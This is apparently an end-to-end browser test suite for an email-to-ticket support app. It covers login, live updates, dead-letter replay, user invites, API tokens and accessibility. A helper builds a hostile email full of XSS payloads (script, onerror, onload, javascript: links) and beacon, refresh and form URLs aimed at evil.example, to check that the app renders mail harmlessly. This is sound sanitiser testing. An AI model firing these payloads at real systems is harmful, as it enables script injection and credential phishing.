/** The UI in a real browser, on the whole system. */
import { describe, expect, test } from 'vitest';
import { inspected, useBrowser, type TestBrowser, type Visitor } from './browser.ts';
import { layoutShift, MOST_LAYOUT_SHIFT, worksByKeyboard } from './page-manners.ts';
import { notInspected } from './screens.ts';
import { PASSWORD, useStack, type TestStack } from './stack.ts';

const browser = await useBrowser();

// Whole ways of a person, with a browser on a machine that does much else.
describe.skipIf(browser === null)('the pages (needs Chromium)', { timeout: 120_000 }, async () => {
  if (browser === null) return;
  const stack = await useStack();
  await stack.addUser('operator', 'operator@example.com');
  let operator: Visitor | null = null;

  /** One visitor for many tests, at the first page anew: a login of one's own costs seconds. */
  async function asOperator(): Promise<Visitor> {
    if (operator === null) {
      operator = await (browser as TestBrowser).visit(stack.origin);
      await operator.logIn('operator@example.com', PASSWORD);
    } else await operator.page.goto('/');
    await operator.page.getByRole('link', { name: 'Support' }).waitFor();
    return operator;
  }

  test('a wrong password is told in words, and the right one logs in', async () => {
    const { page, inspect, glance, troubles } = await browser.visit(stack.origin);
    await page.goto('/');
    expect(await inspect('login')).toEqual([]);
    await page.getByLabel('E-mail').fill('operator@example.com');
    await page.getByRole('textbox', { name: 'Password' }).fill('wrong');
    await page.getByRole('button', { name: 'Log in' }).click();
    await page.getByRole('alert').getByText('E-mail or password is wrong.').waitFor();
    expect(await glance('login-refused')).toEqual([]);
    await page.getByRole('textbox', { name: 'Password' }).fill(PASSWORD);
    await page.getByRole('button', { name: 'Log in' }).click();
    await page.getByRole('heading', { name: 'Mailboxes' }).waitFor();
    await page.getByRole('link', { name: 'Support' }).waitFor();
    expect(await inspect('mailboxes')).toEqual([]);
    expect(troubles).toEqual([]);
  });

  test('the browser’s language is spoken, and another one can be chosen', async () => {
    const { page, glance, logIn, troubles } = await browser.visit(stack.origin, { locale: 'es-MX' });
    await logIn('operator@example.com', PASSWORD);
    await page.getByRole('heading', { name: 'Buzones' }).waitFor();
    await page.getByText('El correo nuevo llega solo.').waitFor();
    expect(await page.locator('html').getAttribute('lang')).toBe('es');
    expect(await glance('mailboxes-es')).toEqual([]);
    await page.getByLabel('Idioma').selectOption('en');
    await page.getByRole('heading', { name: 'Mailboxes' }).waitFor();
    expect(troubles).toEqual([]);
  });

  test('a mail that is sent appears as message and ticket without a reload', async () => {
    const { page, glance, troubles } = await asOperator();
    await page.getByRole('link', { name: 'Messages' }).click();
    await page.getByText('No messages.').waitFor();
    expect(await glance('messages-empty')).toEqual([]);
    const loads: string[] = [];
    page.on('framenavigated', (frame) => loads.push(frame.url()));
    await stack.send({ subject: 'Printer on fire' });
    const row = page.getByRole('row', { name: /Printer on fire/ });
    await row.waitFor();
    await row.getByText('Processed').waitFor();
    expect(loads).toEqual([]);
    await page.getByRole('link', { name: 'Tickets', exact: true }).click();
    await page.getByRole('link', { name: 'Printer on fire' }).waitFor();
    await stack.send({ subject: 'Coffee is out' });
    await page.getByRole('link', { name: 'Coffee is out' }).waitFor();
    expect(troubles).toEqual([]);
  });

  test('what changes by another server appears here, and after a server was away everything is read again', async () => {
    const second = await stack.startServer();
    const [here, there] = [await asOperator(), await browser.visit(second.origin)];
    await there.logIn('operator@example.com', PASSWORD);
    await there.page.getByRole('button', { name: 'Actions: Support' }).click();
    await there.page.getByRole('menuitem', { name: 'Pause' }).click();
    await here.page.getByText('Paused. Mail waits in the mailbox').waitFor();
    await second.process.stop();
    await here.page.getByRole('button', { name: 'Actions: Support' }).click();
    await here.page.getByRole('menuitem', { name: 'Resume' }).click();
    await here.page.getByText('Connected. New mail arrives by itself.').waitFor();
    await stack.startServer(Number(new URL(second.origin).port));
    await there.page.getByText('Connected. New mail arrives by itself.').waitFor();
    expect([...here.troubles, ...there.troubles]).toEqual([]);
  });

  test('a message is found by its Message-ID, with what happened to it, its original and a harmless view of it', async () => {
    const id = `<hostile-${Date.now()}@example.org>`;
    await stack.send({ subject: 'Hostile', raw: hostileMail(id) });
    const { page, context, inspect, troubles } = await asOperator();
    await page.getByRole('link', { name: 'Messages' }).click();
    await page.getByLabel('Message-ID').fill(id);
    await page.getByRole('button', { name: HOSTILE }).click();
    const drawer = page.getByRole('dialog');
    await drawer.getByRole('link', { name: /Ticket #/ }).waitFor();
    await drawer.getByText('Its event is on the stream').waitFor();
    await drawer.getByRole('button', { name: 'Show the mail' }).click();
    const mail = page.frameLocator('iframe');
    await mail.getByText('Harmless words').waitFor();
    // Nothing ran, and nothing was asked of anybody (see `troubles`).
    expect(await page.title()).toBe('Messages · Mailstream');
    expect(await mail.locator('img, script, style[data-x], form, svg').count()).toBe(0);
    expect(await inspect('message-details')).toEqual([]);
    const download = page.waitForEvent('download');
    await drawer.getByRole('link', { name: 'Download original' }).click();
    expect((await download).suggestedFilename()).toMatch(/^[0-9a-f-]{36}\.eml$/);
    expect(context.pages()).toHaveLength(1);
    await drawer.getByRole('link', { name: /Ticket #/ }).click();
    // Subject, sender and file are text, whatever they look like.
    await page.getByRole('heading', { name: HOSTILE }).waitFor();
    await page.getByText('Evil <script>').waitFor();
    await page.getByRole('link', { name: `Download ${HOSTILE}.html` }).waitFor();
    expect(await page.locator('main img, main script').count()).toBe(0);
    expect(await page.title()).toContain(HOSTILE);
    expect(troubles).toEqual([]);
  });

  test('a dead letter says why, is replayed after a look at what that does, and becomes a ticket', async () => {
    await stack.world.sql(`
      CREATE FUNCTION refuse() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN RAISE EXCEPTION 'poison'; END $$;
      CREATE TRIGGER refuse BEFORE INSERT ON tickets FOR EACH ROW WHEN (NEW.subject = 'Poison') EXECUTE FUNCTION refuse()`);
    const { page, inspect, glance, troubles } = await asOperator();
    await page.getByRole('link', { name: 'Dead letters' }).click();
    await page.getByText('No dead letters.').waitFor();
    expect(await glance('dead-letters-empty')).toEqual([]);
    await stack.send({ subject: 'Poison' });
    await page.getByRole('button', { name: 'Poison' }).click();
    await page.getByText('Why is there no ticket?').waitFor();
    expect(await inspect('dead-letter-details')).toEqual([]);
    await page.keyboard.press('Escape');
    await stack.world.sql('DROP TRIGGER refuse ON tickets');
    await page.getByLabel('Choose “Poison”').check();
    expect(await inspect('dead-letters')).toEqual([]);
    await page.getByRole('button', { name: 'Discard …' }).click();
    await page.getByLabel('Why?').waitFor();
    expect(await inspect('discard')).toEqual([]);
    await page.keyboard.press('Escape');
    await page.getByRole('button', { name: 'Replay', exact: true }).click();
    await page.getByText('1 mail would be processed again.').waitFor();
    expect(await inspect('replay')).toEqual([]);
    await page.getByRole('dialog').getByRole('button', { name: 'Replay' }).click();
    await page.getByText('No dead letters.').waitFor();
    await page.getByRole('link', { name: 'Tickets', exact: true }).click();
    await page.getByRole('link', { name: 'Poison' }).click();
    await page.getByText('Mail number').waitFor();
    expect(await inspect('ticket')).toEqual([]);
    await page.getByText('Note', { exact: true }).click();
    await page.getByLabel('Text').fill('A note for colleagues');
    await page.getByRole('button', { name: 'Add note' }).click();
    await page.getByRole('article').getByText('A note for colleagues').waitFor();

    // One that the ledger knows nothing of: somebody wrote to the stream.
    await stack.world.sql(
      `INSERT INTO dead_letters (tenant, event_id, source, state, code, detail, attempts, stream, entry_id)
       VALUES ($1, gen_random_uuid(), 'worker', 'open', 'PROVIDER_UNKNOWN', 'x', 1, 'events', '1-1')`,
      [stack.tenant],
    );
    await page.getByRole('link', { name: 'Dead letters' }).click();
    await page.getByRole('button', { name: '(no subject)' }).click();
    await page.getByRole('button', { name: 'What was tried' }).click();
    await page.getByText('PROVIDER_UNKNOWN: x').waitFor();
    expect(troubles).toEqual([]);
  });

  test('an operator sees instances, queues and jobs, looks for mail and restarts', async () => {
    const { page, inspect, troubles } = await asOperator();
    await page.getByRole('link', { name: 'Operations' }).click();
    await page.getByText(/email-service \d/).waitFor();
    await page
      .getByText('job-worker')
      .or(page.getByText(/waiting, \d+ under way/))
      .first()
      .waitFor();
    await page.getByText(/Messages: highest/).waitFor();
    expect(await inspect('operations')).toEqual([]);
    await page.getByRole('button', { name: 'Look for mail now' }).click();
    await page.getByText('1 mailbox is looked at.').waitFor();
    await page.getByRole('button', { name: 'Restart all …' }).click();
    await page.getByText('Restart all mailboxes of this tenant?').waitFor();
    expect(await inspect('restart')).toEqual([]);
    await page.getByRole('dialog').getByRole('button', { name: 'Restart' }).click();
    await page.getByText('1 mailbox connects anew.').waitFor();
    await page
      .getByRole('button', { name: /^Run now: / })
      .first()
      .click();
    await page.getByText(/is started\./).waitFor();
    expect(troubles).toEqual([]);
  });

  test('somebody is invited, sets a password by the link, sees what a viewer sees, and is put out', async () => {
    const { page, inspect, troubles } = await asOperator();
    await page.getByRole('link', { name: 'Users' }).click();
    await page.getByRole('button', { name: 'Invite user' }).click();
    await page.getByRole('textbox', { name: 'Name', exact: true }).fill('Vera');
    await page.getByLabel('E-mail').fill('vera@example.com');
    expect(await inspect('user-invite')).toEqual([]);
    await page.getByRole('dialog').getByRole('button', { name: 'Invite user' }).click();
    const link = await page.getByRole('textbox', { name: 'Link' }).inputValue();
    expect(await inspect('user-link')).toEqual([]);
    await page.keyboard.press('Escape');
    await page.getByRole('row', { name: /Vera/ }).getByText('Invited').waitFor();
    expect(await inspect('users')).toEqual([]);

    const vera = await browser.visit(stack.origin);
    await vera.page.goto(link);
    // The token does not stay in the address.
    await vera.page.waitForURL((url) => url.hash === '');
    await vera.page.getByRole('textbox', { name: 'New password' }).fill('short');
    await vera.page.getByRole('button', { name: 'Set password' }).click();
    await vera.page.getByText('At least 12 characters').first().waitFor();
    expect(await vera.inspect('set-password')).toEqual([]);
    await vera.page.getByRole('textbox', { name: 'New password' }).fill('long enough a password');
    await vera.page.getByRole('button', { name: 'Set password' }).click();
    await vera.page.getByRole('link', { name: 'To the login' }).waitFor();
    await vera.logIn('vera@example.com', 'long enough a password');
    await vera.page.getByRole('link', { name: 'Support' }).waitFor();
    expect(await vera.page.getByRole('link', { name: 'Users' }).count()).toBe(0);
    expect(await vera.page.getByRole('button', { name: 'Add mailbox' }).count()).toBe(0);

    await page.getByRole('button', { name: 'Actions: Vera' }).click();
    await page.getByRole('menuitem', { name: 'Disable' }).waitFor();
    expect(await inspect('user-menu')).toEqual([]);
    await page.getByRole('menuitem', { name: 'Disable' }).click();
    await page.getByText('Disable “Vera”?').waitFor();
    expect(await inspect('user-disable')).toEqual([]);
    await page.getByRole('dialog').getByRole('button', { name: 'Disable' }).click();
    // Without a reload: her page falls back to the login.
    await vera.page.getByRole('button', { name: 'Log in' }).waitFor();
    expect([...troubles, ...vera.troubles]).toEqual([]);
  });

  test('a token is made and revoked, and the audit log tells of it', async () => {
    const { page, inspect, troubles } = await asOperator();
    await page.getByRole('link', { name: 'API tokens' }).click();
    await page.getByText('No API tokens.').waitFor();
    await page.getByRole('button', { name: 'New token' }).first().click();
    await page.getByLabel('Name').fill('Reports');
    await page.getByLabel('See tickets').check();
    expect(await inspect('token-form')).toEqual([]);
    await page.getByRole('button', { name: 'Make token' }).click();
    expect(await page.getByLabel('Reports', { exact: true }).inputValue()).toMatch(/^mst_/);
    expect(await inspect('token-secret')).toEqual([]);
    await page.keyboard.press('Escape');
    expect(await inspect('tokens')).toEqual([]);
    await page.getByRole('button', { name: 'Revoke: Reports' }).click();
    await page.getByRole('dialog').getByRole('button', { name: 'Revoke' }).waitFor();
    expect(await inspect('token-revoke')).toEqual([]);
    await page.getByRole('dialog').getByRole('button', { name: 'Revoke' }).click();
    await page
      .getByRole('row', { name: /Reports/ })
      .getByText('Revoked')
      .waitFor();
    await page.getByRole('link', { name: 'Audit log' }).click();
    await page.getByRole('button', { name: /revoked the API token Reports/ }).click();
    await page.getByText('name: Reports').first().waitFor();
    expect(await inspect('audit-log')).toEqual([]);
    expect(troubles).toEqual([]);
  });

  test('a mailbox is reached and worked with by keys alone', async () => {
    const visitor = await browser.visit(stack.origin);
    await worksByKeyboard(visitor, 'operator@example.com', PASSWORD, 'Support');
    expect(visitor.troubles).toEqual([]);
  });

  test('nothing jumps while a screen loads', async () => {
    const visitor = await asOperator();
    const [ticket] = await stack.world.sql<{ id: string }>('SELECT id FROM tickets LIMIT 1');
    const mailbox = `/mailboxes/${stack.providerId}`;
    const screens = [
      ...['/mailboxes', mailbox, `${mailbox}/sending`, '/messages', `/tickets/${ticket?.id ?? ''}`],
      ...['/rules', '/ticket-defaults', '/tenant', '/users', '/operations'],
    ];
    const shifts: Record<string, number> = {};
    for (const path of screens) shifts[path] = await layoutShift(visitor, path);
    expect(Object.entries(shifts).filter(([, shift]) => shift > MOST_LAYOUT_SHIFT)).toEqual([]);
    expect(visitor.troubles).toEqual([]);
  });

  test(
    'every screen, and everything that opens over one, is usable in light, dark and at 390 pixels',
    { timeout: 240_000 },
    async () => {
      const visitor = await asOperator();
      expect(await lookAtTheRest(visitor, stack)).toEqual([]);
      expect(visitor.troubles).toEqual([]);
      const phone = await browser.visit(stack.origin, { width: 390, height: 844 });
      await phone.logIn('operator@example.com', PASSWORD);
      await phone.page.getByRole('button', { name: 'Menu' }).click();
      expect(await phone.inspect('menu-390')).toEqual([]);
      await phone.page.getByRole('link', { name: 'Tickets', exact: true }).click();
      await phone.page.getByRole('heading', { name: 'Tickets' }).waitFor();
      expect(phone.troubles).toEqual([]);
      // Those of the tests above included.
      expect(notInspected(inspected, 'pages')).toEqual([]);
    },
  );
});

/** Screens and dialogs that no other way leads through. */
async function lookAtTheRest({ page, inspect }: Visitor, stack: TestStack): Promise<readonly string[]> {
  const findings: string[] = [];
  const look = async (name: string): Promise<void> => {
    findings.push(...(await inspect(name)));
  };
  const screens = [
    ['/messages', 'messages'],
    ['/tickets', 'tickets'],
    ['/account', 'account'],
    ['/nothing', 'page-missing'],
    [`/mailboxes/${stack.providerId}`, 'mailbox'],
  ] as const;
  for (const [path, name] of screens) {
    await page.goto(path);
    await page.getByRole('heading', { level: 1 }).waitFor();
    await page.locator('[aria-busy=true]').first().waitFor({ state: 'detached' });
    await look(name);
  }
  await page.getByRole('button', { name: 'Actions: Support' }).click();
  await page.getByRole('menuitem', { name: 'Delete' }).waitFor();
  await look('mailbox-menu');
  await page.getByRole('menuitem', { name: 'Delete' }).click();
  await page.getByText('Delete “Support”?').waitFor();
  await look('mailbox-delete');
  await page.keyboard.press('Escape');
  return findings;
}

const HOSTILE = `Hostile "><img src=x onerror="document.title='owned'">`;

/** What a sanitiser may miss; each of these would show up as a changed title, a request to another host, or a window. */
function hostileMail(id: string): string {
  const encoded = `=?utf-8?B?${Buffer.from(HOSTILE).toString('base64')}?=`;
  return [
    'From: =?utf-8?Q?Evil_=3Cscript=3E?= <evil@example.org>',
    'To: support@example.com',
    `Subject: ${encoded}`,
    `Message-ID: ${id}`,
    'MIME-Version: 1.0',
    'Content-Type: multipart/mixed; boundary=b',
    '',
    '--b',
    'Content-Type: text/html; charset=utf-8',
    '',
    `<html><head><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">
<style data-x>@import url(https://evil.example/x.css); body { background: url(https://evil.example/y.png) }</style></head>
<body onload="parent.document.title='owned'"><p>Harmless words</p>
<script>top.document.title = 'owned'; open('https://evil.example/')</script>
<img src="https://evil.example/pixel.gif" onerror="top.document.title='owned'"><svg onload="top.document.title='owned'"><image href="https://evil.example/z.svg"/></svg>
<form action="https://evil.example/"><input name="password"></form>
<a href="javascript:top.document.title='owned'">click</a><div style="position:fixed;inset:0;background:url(https://evil.example/w.png)">over</div></body></html>`.replaceAll(
      '\n',
      '\r\n',
    ),
    '--b',
    'Content-Type: text/html',
    `Content-Disposition: attachment; filename*=utf-8''${encodeURIComponent(`${HOSTILE}.html`)}`,
    '',
    '<script>1</script>',
    '--b--',
    '',
  ].join('\r\n');
}
